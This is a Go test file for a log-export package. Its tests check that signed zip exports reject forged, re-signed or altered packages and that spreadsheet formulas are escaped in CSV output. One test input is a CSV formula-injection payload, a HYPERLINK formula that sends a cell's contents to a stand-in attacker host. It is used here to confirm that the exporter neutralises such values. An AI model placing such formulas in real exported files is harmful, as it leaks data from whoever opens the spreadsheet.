package export_test

import (
	"archive/zip"
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/csv"
	"errors"
	"io"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/connlog/connlog/store/integrity"
	"github.com/connlog/connlog/store/legal/export"
)

func signer(tb testing.TB) *integrity.Signer {
	tb.Helper()
	s, _, err := integrity.LoadOrCreate(filepath.Join(tb.TempDir(), "instance.key"))
	if err != nil {
		tb.Fatal(err)
	}
	return s
}

func input() export.Input {
	t0 := time.Date(2026, 3, 3, 14, 3, 27, 120e6, time.UTC)
	return export.Input{
		Requisition: map[string]any{"id": "REQ-1", "article": "77-1-1"},
		Queries: []export.Query{{
			Text:       "SELECT 1 WHERE client_ip = {ip:IPv6}",
			Parameters: map[string]string{"ip": "::ffff:198.51.100.4"},
		}},
		Columns: []string{"event_time", "client_ip", "client_port", "site", "path"},
		Rows: [][]any{
			{t0, "198.51.100.4", uint16(51234), "www.example.org", ""},
			{t0.Add(time.Second), "198.51.100.4", uint16(51234), "www.example.org", `a "quoted", path`},
		},
		From:      t0.Add(-time.Hour),
		To:        t0.Add(time.Hour),
		Generated: time.Date(2026, 3, 4, 9, 0, 0, 0, time.UTC),
		Software:  "connlog test",
	}
}

func build(tb testing.TB, s *integrity.Signer) []byte {
	tb.Helper()
	pkg, _, err := export.Build(input(), s, integrity.KeyID(s.Public()))
	if err != nil {
		tb.Fatal(err)
	}
	return pkg
}

func unzip(tb testing.TB, pkg []byte) ([]string, map[string][]byte) {
	tb.Helper()
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		tb.Fatal(err)
	}
	var names []string
	files := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			tb.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			tb.Fatal(err)
		}
		names = append(names, f.Name)
		files[f.Name] = b
	}
	return names, files
}

// rezip writes files as a new, well-formed zip (correct CRCs): what someone
// who alters a package on purpose would produce.
func rezip(tb testing.TB, names []string, files map[string][]byte) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			tb.Fatal(err)
		}
		if _, err := w.Write(files[n]); err != nil {
			tb.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

func TestVerifyAcceptsAPackageSignedByTheTrustedKey(t *testing.T) {
	s := signer(t)
	pkg := build(t, s)
	r, err := export.Verify(pkg, s.Public())
	if err != nil || !r.OK() {
		t.Fatalf("Verify: %v, problems %v", err, r.Problems)
	}
	if r.Manifest.Records != 2 || r.KeyID != integrity.KeyID(s.Public()) {
		t.Errorf("manifest %+v", r.Manifest)
	}
	names, files := unzip(t, pkg)
	if want := []string{"records.csv", "records.ndjson", "manifest.json", "manifest.sig"}; strings.Join(names, ",") != strings.Join(want, ",") {
		t.Errorf("files %v, want %v", names, want)
	}
	if !strings.Contains(string(files["records.csv"]), `"a ""quoted"", path"`) {
		t.Errorf("csv:\n%s", files["records.csv"])
	}
	if !strings.Contains(string(files["records.ndjson"]), `"event_time":"2026-03-03T14:03:27.120Z","client_ip":"198.51.100.4","client_port":51234`) {
		t.Errorf("ndjson:\n%s", files["records.ndjson"])
	}
	// The signature is plain Ed25519 over manifest.json, checkable by any tool.
	if !ed25519.Verify(s.Public(), files["manifest.json"], files["manifest.sig"]) {
		t.Error("manifest.sig is not an Ed25519 signature of manifest.json")
	}
}

func TestBuildIsDeterministic(t *testing.T) {
	s := signer(t)
	a, sumA, err := export.Build(input(), s, integrity.KeyID(s.Public()))
	if err != nil {
		t.Fatal(err)
	}
	b, sumB, err := export.Build(input(), s, integrity.KeyID(s.Public()))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, b) || sumA != sumB {
		t.Error("two builds of the same input differ")
	}
}

func TestVerifyWithoutTrustedKeyDoesNotPass(t *testing.T) {
	s := signer(t)
	r, err := export.Verify(build(t, s), nil)
	if !errors.Is(err, export.ErrNoTrustedKey) || r.OK() {
		t.Fatalf("Verify without key: err %v, OK %v", err, r.OK())
	}
	if len(r.Problems) != 0 || r.KeyID != integrity.KeyID(s.Public()) {
		t.Errorf("problems %v, key %s", r.Problems, r.KeyID)
	}
}

func TestVerifyRejectsAnotherKey(t *testing.T) {
	s := signer(t)
	other, _, _ := ed25519.GenerateKey(rand.Reader)
	if r, err := export.Verify(build(t, s), other); err == nil || r.OK() {
		t.Fatal("a package accepted with another instance's key")
	}
}

func TestVerifyRejectsAPackageResignedWithAnotherKey(t *testing.T) {
	s, forger := signer(t), signer(t)
	// The forger builds a whole new, self-consistent package.
	in := input()
	in.Rows[0][2] = uint16(51235)
	forged, _, err := export.Build(in, forger, integrity.KeyID(forger.Public()))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := export.Verify(forged, nil); !errors.Is(err, export.ErrNoTrustedKey) {
		t.Fatalf("forged package without key: %v", err)
	}
	if r, err := export.Verify(forged, s.Public()); err == nil || r.OK() {
		t.Fatal("forged package accepted with the trusted key")
	}
}

// TestVerifyRejectsASingleChangedByte changes one byte, at several
// positions, in each file of the package and rebuilds a valid zip around it.
func TestVerifyRejectsASingleChangedByte(t *testing.T) {
	s := signer(t)
	pkg := build(t, s)
	names, files := unzip(t, pkg)
	for _, name := range names {
		data := files[name]
		for _, pos := range []int{0, len(data) / 2, len(data) - 1} {
			for _, delta := range []byte{1, 0x80} {
				changed := map[string][]byte{}
				for n, b := range files {
					changed[n] = bytes.Clone(b)
				}
				changed[name][pos] ^= delta
				r, err := export.Verify(rezip(t, names, changed), s.Public())
				if err == nil || r.OK() {
					t.Errorf("%s with byte %d xor %#x: accepted", name, pos, delta)
				}
			}
		}
	}
}

// TestVerifyRejectsAFlippedByteInTheZip flips each byte of the zip where a
// file's compressed data lies: the CRC, the deflate stream or the hashes
// catch it.
func TestVerifyRejectsAFlippedByteInTheZip(t *testing.T) {
	s := signer(t)
	pkg := build(t, s)
	_, files := unzip(t, pkg)
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		off, err := f.DataOffset()
		if err != nil {
			t.Fatal(err)
		}
		for i := off; i < off+int64(f.CompressedSize64); i++ {
			bad := bytes.Clone(pkg)
			bad[i] ^= 0x01
			r, err := export.Verify(bad, s.Public())
			if err != nil && !r.OK() {
				continue
			}
			// A flip of a deflate block's "final" bit can leave the content
			// intact; then the package's content is unchanged, and accepting
			// it is right. Anything else is a miss.
			if !sameContent(bad, files) {
				t.Errorf("%s: byte %d of the zip flipped: accepted", f.Name, i)
			}
		}
	}
}

func TestVerifyRejectsExtraOrMissingFiles(t *testing.T) {
	s := signer(t)
	names, files := unzip(t, build(t, s))
	extra := map[string][]byte{"notes.txt": []byte("hi")}
	for n, b := range files {
		extra[n] = b
	}
	if _, err := export.Verify(rezip(t, append(names, "notes.txt"), extra), s.Public()); err == nil {
		t.Error("extra file accepted")
	}
	if _, err := export.Verify(rezip(t, names[:3], files), s.Public()); err == nil {
		t.Error("missing manifest.sig accepted")
	}
	if _, err := export.Verify([]byte("not a zip"), s.Public()); err == nil {
		t.Error("garbage accepted")
	}
}

// sameContent reports whether pkg unzips to exactly files.
func sameContent(pkg []byte, files map[string][]byte) bool {
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil || len(zr.File) != len(files) {
		return false
	}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			return false
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil || !bytes.Equal(b, files[f.Name]) {
			return false
		}
	}
	return true
}

// TestRecordsCSVNeverRunsAFormula: records.csv is what an officer opens in
// a spreadsheet; a path or a user from the logs that begins like a formula
// is shown as text there (one "'" in front), and records.ndjson keeps the
// value exactly. Numbers are never touched.
func TestRecordsCSVNeverRunsAFormula(t *testing.T) {
	in := input()
	in.Columns = append(in.Columns, "user", "offset")
	in.Rows = [][]any{{in.Rows[0][0], "198.51.100.4", uint16(1), "www.example.org", `=HYPERLINK("https://evil.example/?"&B2)`, "@x", int64(-1)}}
	s := signer(t)
	pkg, _, err := export.Build(in, s, integrity.KeyID(s.Public()))
	if err != nil {
		t.Fatal(err)
	}
	_, files := unzip(t, pkg)
	recs, err := csv.NewReader(bytes.NewReader(files[export.RecordsCSV])).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("records.csv: %v", err)
	}
	if got := recs[1][4:]; got[0] != `'=HYPERLINK("https://evil.example/?"&B2)` || got[1] != "'@x" || got[2] != "-1" {
		t.Errorf("records.csv cells %q", got)
	}
	if nd := string(files[export.RecordsNDJSON]); !strings.Contains(nd, `"=HYPERLINK(`) || strings.Contains(nd, `'=`) {
		t.Errorf("records.ndjson %s", nd)
	}
	if r, err := export.Verify(pkg, s.Public()); err != nil || !r.OK() {
		t.Errorf("Verify: %+v, %v", r, err)
	}
}
